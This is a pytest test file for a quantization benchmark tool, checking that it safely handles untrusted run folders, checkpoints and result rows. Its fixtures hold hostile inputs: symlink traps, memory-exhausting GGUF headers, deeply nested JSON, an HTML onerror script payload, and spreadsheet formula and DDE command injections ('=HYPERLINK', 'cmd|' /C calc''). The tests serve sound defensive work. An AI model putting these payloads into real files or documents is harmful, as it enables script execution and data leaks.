"""Run folders, checkpoints and results that come from someone else: what they hold must not make ptq-bench
write outside its folders, put their text into tables as structure or formulas, or exhaust memory."""

from __future__ import annotations

from pathlib import Path

import pytest

from ptq_bench.cli import main

SMOKE = Path(__file__).resolve().parents[1] / "recipes" / "smoke.yaml"


@pytest.mark.parametrize(("name", "folder"), [("results.jsonl", False), (".lock.owner", False), (".lock", False),
                                              ("curves", True)])
def test_a_run_folder_entry_that_is_a_link_is_refused_before_writing(tmp_path, capsys, name, folder):
    """A copied run folder whose results.jsonl pointed at a one-line file without a newline: `run` took the line for
    a torn write and truncated the file it points at; a linked .lock.owner was overwritten with the lock's JSON, a
    linked curves/ received the curves."""
    victim, out = tmp_path / "elsewhere", tmp_path / "run"
    victim.mkdir()
    out.mkdir()
    target = victim / ("dir" if folder else "notes.txt")
    target.mkdir() if folder else target.write_text("my notes, no trailing newline")
    (out / name).symlink_to(target)
    assert main(["run", str(SMOKE), "--output-dir", str(out), "--executor", "local"]) == 2
    err = capsys.readouterr().err
    assert f"output_dir: {name} in " in err and " is a symbolic link" in err and len(err.strip().splitlines()) == 1
    assert sorted(p.name for p in out.iterdir()) == [name]
    assert sorted(p.name for p in victim.rglob("*")) == [target.name]
    assert folder or target.read_text() == "my notes, no trailing newline"


def test_the_run_lock_refuses_a_linked_owner_file(tmp_path):
    """`sweep.run` (the Python API, no CLI checks) takes the lock first: it refuses too."""
    from ptq_bench.errors import PtqBenchError
    from ptq_bench.lock import run_lock

    (tmp_path / "notes.txt").write_text("mine\n")
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / ".lock.owner").symlink_to(tmp_path / "notes.txt")
    with pytest.raises(PtqBenchError, match="is a symbolic link"), run_lock(tmp_path / "run"):
        pass
    assert (tmp_path / "notes.txt").read_text() == "mine\n"


def _gguf(tmp_path: Path, body: bytes, n_tensors: int, n_kv: int) -> Path:
    import struct

    file = tmp_path / "m.gguf"
    file.write_bytes(struct.pack("<IIQQ", 0x46554747, 3, n_tensors, n_kv) + body + b"\0" * 64)
    return file


def test_a_gguf_tensor_with_billions_of_dimensions_costs_no_memory(tmp_path):
    """A 101-byte GGUF whose tensor info says 4 billion dimensions: the header reader built a 4 GB struct format
    ("Q" per dimension) before finding the file too short: a MemoryError traceback at `validate` (or gigabytes;
    2.3 GB peak for the 2**26 dimensions here)."""
    import struct
    import tracemalloc

    from ptq_bench.errors import RecipeError
    from ptq_bench.sources import inspect_source

    file = _gguf(tmp_path, struct.pack("<Q", 1) + b"a" + struct.pack("<I", 2**26), n_tensors=1, n_kv=0)
    (tmp_path / "warm").mkdir()
    with pytest.raises(RecipeError):  # the modules it imports, before measuring
        inspect_source(str(_gguf(tmp_path / "warm", b"", n_tensors=0, n_kv=0)))
    tracemalloc.start()
    with pytest.raises(RecipeError, match=f"cannot read GGUF metadata of {file}: cut short inside its header"):
        inspect_source(str(file))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 16 * 2**20, peak  # the format alone was 64 MB


def test_a_gguf_of_deeply_nested_arrays_is_one_line(tmp_path):
    """5,000 arrays each holding the next (60 kB): a RecursionError traceback at `validate`."""
    import struct

    from ptq_bench.errors import RecipeError
    from ptq_bench.sources import inspect_source

    value = struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 5000 + struct.pack("<IQ", 4, 0)
    file = _gguf(tmp_path, struct.pack("<Q", 1) + b"k" + value, n_tensors=0, n_kv=1)
    with pytest.raises(RecipeError, match="arrays nested more than 8 deep"):
        inspect_source(str(file))


def _copied_run_with_names(tmp_path: Path, names: dict[int, str]) -> Path:
    """results/quickstart with row i's model renamed names[i] (rows sealed again, as an editor of a folder could)."""
    import json
    import shutil

    from ptq_bench.results import Row

    run_dir = tmp_path / "quickstart"
    shutil.copytree(Path(__file__).resolve().parents[1] / "results" / "quickstart", run_dir)
    lines = (run_dir / "results.jsonl").read_text().splitlines()
    rows = [Row.from_dict({**json.loads(line), **({"model": names[i]} if i in names else {})}) for i, line in
            enumerate(lines)]
    rows = [r.sealed() if r.schema >= 3 else r for r in rows]  # schema-2 rows carry no sha256
    (run_dir / "results.jsonl").write_text("".join(r.to_json() + "\n" for r in rows))
    return run_dir


def test_a_copied_folders_names_become_neither_table_structure_nor_html_nor_formulas(tmp_path):
    """Rows are text anyone can write: a model named "two\\nlines <img src=x onerror=...>" split its markdown row in
    two and put raw HTML into table.md (and into the notebook, which displays it as Markdown), and one named
    =HYPERLINK(...) was a formula in table.csv."""
    import csv

    html, formula = "two\nlines | <img src=x onerror=alert(1)>", '=HYPERLINK("http://example.invalid/?"&A1,"x")'
    run_dir = _copied_run_with_names(tmp_path, {0: html, 1: formula})
    assert main(["report", str(run_dir)]) == 0
    md = (run_dir / "table.md").read_text()
    assert "damaged" not in md
    table = [line for line in md.splitlines() if line.startswith("|")]
    assert len({line.replace(r"\|", "").count("|") for line in table}) == 1  # every row has the header's cells
    assert "<img" not in "".join(table) and "two lines \\| &lt;img src=x onerror=alert(1)&gt;" in md
    assert "- `two lines | <img src=x onerror=alert(1)>` before training" in md  # one line, in a code span: text
    cells = [row[0] for row in csv.reader((run_dir / "table.csv").open())]
    assert "'" + formula in cells and not [c for c in cells if c[:1] in "=@+"]


@pytest.mark.parametrize(("text", "shown"), [("-x_1.5", "-x_1.5"), ("-1.5", "-1.5"), ("+inf", "+inf"),
                                             ("fp16", "fp16"), ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"),
                                             ("-2+cmd|' /C calc'!A0", "'-2+cmd|' /C calc'!A0")])
def test_csv_text_leaves_plain_names_and_numbers(text, shown):
    """The names a recipe can give (plain names) and numbers print as they are; only what could be a formula with
    a function call or a reference to another program gets the leading quote."""
    from ptq_bench.report.fmt import csv_text

    assert csv_text(text) == shown


def test_a_note_holding_html_outside_its_code_spans_is_escaped():
    """A note names a model in a code span (`name`): a name closing the span early put its HTML outside it."""
    from ptq_bench.report.fmt import md_line

    assert md_line("- `x` <img src=y>` before\ntraining") == "- `x` &lt;img src=y&gt;` before training"
    assert md_line("- `<task>/acc` & more <b>") == "- `<task>/acc` &amp; more &lt;b&gt;"


def test_a_name_that_is_broken_mathtext_is_drawn_as_text(tmp_path, capsys):
    r"""matplotlib parses $...$ in a label as mathtext: a row's model named a$\frac{$b ended `report` in a
    ParseSyntaxException traceback (exit 1) after its tables, before its plots."""
    run_dir = _copied_run_with_names(tmp_path, {0: r"a$\frac{$b"})
    for png in run_dir.glob("*.png"):
        png.unlink()
    assert main(["report", str(run_dir)]) == 0
    assert "Traceback" not in capsys.readouterr().err
    assert (run_dir / "ppl_vs_bits.png").is_file() and (run_dir / "loss_curves.png").is_file()


def _with_header(folder: Path, edit) -> Path:
    """`folder`'s model.safetensors with its JSON header replaced by edit(header) (raw bytes when bytes)."""
    import json
    import struct

    file = folder / "model.safetensors"
    data = file.read_bytes()
    n = struct.unpack("<Q", data[:8])[0]
    new = edit(json.loads(data[8:8 + n]))
    raw = new if isinstance(new, bytes) else json.dumps(new).encode()
    file.write_bytes(struct.pack("<Q", len(raw)) + raw + data[8 + n:])
    return file


def _entry(**fields):
    return lambda h: {**h, "model.norm.weight": {**h["model.norm.weight"], **fields}}


@pytest.mark.parametrize(("edit", "says"), [
    (_entry(shape="abc"), "tensor model.norm.weight's header entry is not a dtype, a shape and two offsets"),
    (_entry(data_offsets=["a", 1]), "tensor model.norm.weight's header entry is not"),
    (_entry(data_offsets=5), "tensor model.norm.weight's header entry is not"),
    (lambda h: [1, 2], "its header is not a JSON object"),
    (lambda h: b"[" * 100_000 + b"]" * 100_000, "its header is not JSON"),
])
def test_a_safetensors_header_of_other_types_is_one_line(tmp_path, edit, says):
    """A header whose shape is a string or whose offsets are not two integers was a TypeError traceback at
    `validate`; one nested 100,000 deep a RecursionError; a header that is a list passed validate."""
    from tiny_families import save_tiny

    from ptq_bench.errors import RecipeError
    from ptq_bench.sources import inspect_source

    file = _with_header(save_tiny("llama", tmp_path / "m"), edit)
    with pytest.raises(RecipeError, match=f"{file}: {says}"):
        inspect_source(str(tmp_path / "m"))


def test_a_damaged_cache_entry_that_links_to_a_folder_is_replaced_not_followed(tmp_path):
    """A cache copied from a colleague, or a model folder linked in by hand: when the linked artefact was incomplete
    the rebuild ended in "Cannot call rmtree on a symbolic link" (no path named; the freshly built artefact, a
    trained model, left in a .tmp- folder for good). Now the link is replaced; what it points at is not touched."""
    from ptq_bench.cache import ensure, problem

    (tmp_path / "theirs").mkdir()
    (tmp_path / "theirs" / "notes.txt").write_text("mine\n")
    entry = tmp_path / "cache" / "models" / "fp16-abc"
    entry.parent.mkdir(parents=True)
    entry.symlink_to(tmp_path / "theirs")

    def build(tmp: Path) -> None:
        tmp.mkdir()
        (tmp / "model.safetensors").write_bytes(b"new")

    assert ensure(entry, build, "model") == entry
    assert not entry.is_symlink() and problem(entry) is None and (entry / "model.safetensors").read_bytes() == b"new"
    assert (tmp_path / "theirs" / "notes.txt").read_text() == "mine\n"
    assert sorted(p.name for p in entry.parent.iterdir()) == ["fp16-abc", "fp16-abc.lock"]


DEEP = "[" * 100_000 + "]" * 100_000  # 200 kB of nesting: json's RecursionError


@pytest.mark.parametrize(("where", "says"), [
    ("results.jsonl", "results.jsonl:{line}: damaged row (arrays or objects nested too deeply); skipped"),
    ("manifest.json", "manifest.json: damaged manifest (not valid JSON: arrays or objects nested too deeply)"),
    ("curves/bitnet_b1.json", None)])
def test_json_nested_too_deeply_is_a_damaged_file_not_a_traceback(tmp_path, capsys, where, says):
    """A results.jsonl line, manifest or curve nested 100,000 deep ended `report` (and `run`) in a RecursionError
    traceback; now it is damaged like any other unreadable JSON: reported, skipped, every intact row rendered."""
    run_dir = _copied_run_with_names(tmp_path, {})
    file = run_dir / where
    says = says and says.format(line=len(file.read_text().splitlines()) + 1)  # the line after the committed rows
    file.write_text(file.read_text() + DEEP + "\n" if where == "results.jsonl" else DEEP)
    assert main(["report", str(run_dir)]) == 0
    err = capsys.readouterr().err
    assert "Traceback" not in err and (says is None or says in err)
    assert says is not None or "curves/bitnet_b1.json unreadable (ValueError: arrays or objects nested too deeply)" \
        in (run_dir / "table.md").read_text()


def test_a_lock_owner_nested_too_deeply_is_a_stale_owner(tmp_path):
    """`run` reads .lock.owner when it takes the lock: a deeply nested one was a RecursionError traceback."""
    from ptq_bench.lock import run_lock

    (tmp_path / ".lock.owner").write_text(DEEP)
    with run_lock(tmp_path):
        assert (tmp_path / ".lock.owner").read_text().startswith('{"pid"')


def test_a_cache_checksum_list_or_data_file_nested_too_deeply_is_damaged(tmp_path):
    """The cache's checksums.json is damaged (the artefact is rebuilt), a data file's line is "not JSON lines"."""
    from ptq_bench.cache import problem
    from ptq_bench.data import check_jsonl
    from ptq_bench.errors import DataError

    (tmp_path / "artefact").mkdir()
    (tmp_path / "artefact" / "checksums.json").write_text(DEEP)
    assert problem(tmp_path / "artefact") == "has a damaged checksums.json"
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "c4_validation.jsonl").write_text('{"text": "a"}\n' + DEEP + "\n")
    with pytest.raises(DataError, match="c4_validation.jsonl:2: not JSON lines"):
        check_jsonl(tmp_path / "data", "c4_validation.jsonl")


@pytest.mark.parametrize("name", ["config.json", "tokenizer.json"])
def test_a_source_json_nested_too_deeply_is_one_line(tmp_path, name):
    """A checkpoint's config.json nested 100,000 deep was a RecursionError traceback at `validate`; a tokenizer
    file one when the model was loaded."""
    from tiny_families import save_tiny

    from ptq_bench.errors import RecipeError
    from ptq_bench.source_load import _refuse_unreadable_json
    from ptq_bench.sources import inspect_source

    folder = save_tiny("llama", tmp_path / "m")
    if name == "config.json":
        (folder / name).write_text(DEEP)
        with pytest.raises(RecipeError, match=f"cannot read {folder / name}: arrays or objects nested too deeply"):
            inspect_source(str(folder))
        return
    info = inspect_source(str(folder))
    (folder / name).write_text(DEEP)
    with pytest.raises(RecipeError, match=f"its tokenizer file {folder / name} is not JSON"):
        _refuse_unreadable_json(info)
